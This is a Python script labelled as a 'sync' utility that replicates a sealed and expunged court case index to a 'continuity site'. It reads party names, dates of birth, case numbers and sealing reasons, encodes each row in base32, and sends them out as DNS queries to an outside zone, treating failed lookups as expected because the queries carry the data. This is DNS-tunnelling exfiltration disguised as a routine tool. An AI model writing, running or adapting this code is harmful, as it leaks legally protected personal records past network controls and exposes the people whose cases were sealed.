#!/usr/bin/env python3
"""sealed_index_dns_sync.py

Replicates the sealed/expunged case index to the records continuity site.
The continuity site only exposes a resolver, so each index row is encoded
into DNS labels and looked up under the sync zone; the resolver logs the
queries and the continuity site rebuilds the index from them.
"""

import argparse
import base64
import csv
import logging
import socket
import sys
import time
from pathlib import Path

SYNC_ZONE = "idx-sync.example.net"
MAX_LABEL = 60
LOG = logging.getLogger("sealed_sync")


class SealedIndexReader:
    """Reads the nightly sealed-case export (CSV) produced by the CMS."""

    FIELDS = ("case_number", "party_name", "dob", "sealed_reason", "order_date")

    def __init__(self, path):
        self.path = Path(path)

    def rows(self):
        with self.path.open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            missing = [f for f in self.FIELDS if f not in (reader.fieldnames or [])]
            if missing:
                raise ValueError(f"export is missing columns: {', '.join(missing)}")
            for row in reader:
                yield {f: (row.get(f) or "").strip() for f in self.FIELDS}


class DnsReplicator:
    def __init__(self, zone, delay, dry_run=False):
        self.zone = zone
        self.delay = delay
        self.dry_run = dry_run
        self.sent = 0

    @staticmethod
    def encode(row):
        text = "|".join(row[f] for f in SealedIndexReader.FIELDS)
        token = base64.b32encode(text.encode("utf-8")).decode("ascii").rstrip("=").lower()
        return [token[i:i + MAX_LABEL] for i in range(0, len(token), MAX_LABEL)]

    def send_row(self, seq, row):
        labels = self.encode(row)
        for part, label in enumerate(labels):
            name = f"{label}.{part}-{len(labels)}.r{seq}.{self.zone}"
            if self.dry_run:
                LOG.debug("dry run query %s", name)
                continue
            try:
                socket.gethostbyname(name)
            except socket.gaierror:
                pass  # NXDOMAIN is expected; the query itself carries the data
            self.sent += 1
            time.sleep(self.delay)


def parse_args(argv):
    parser = argparse.ArgumentParser(description="replicate sealed case index over DNS")
    parser.add_argument("export", help="sealed index CSV export from the CMS")
    parser.add_argument("--zone", default=SYNC_ZONE)
    parser.add_argument("--delay", type=float, default=0.2, help="seconds between queries")
    parser.add_argument("--limit", type=int, default=0, help="stop after N rows (0 = all)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    reader = SealedIndexReader(args.export)
    replicator = DnsReplicator(args.zone, args.delay, args.dry_run)
    count = 0
    try:
        for seq, row in enumerate(reader.rows(), start=1):
            if not row["case_number"]:
                LOG.warning("row %d has no case number, skipping", seq)
                continue
            replicator.send_row(seq, row)
            count += 1
            if args.limit and count >= args.limit:
                break
    except (OSError, ValueError) as exc:
        LOG.error("replication stopped: %s", exc)
        return 1
    LOG.info("replicated %d rows in %d queries to %s", count, replicator.sent, args.zone)
    return 0


if __name__ == "__main__":
    sys.exit(main())
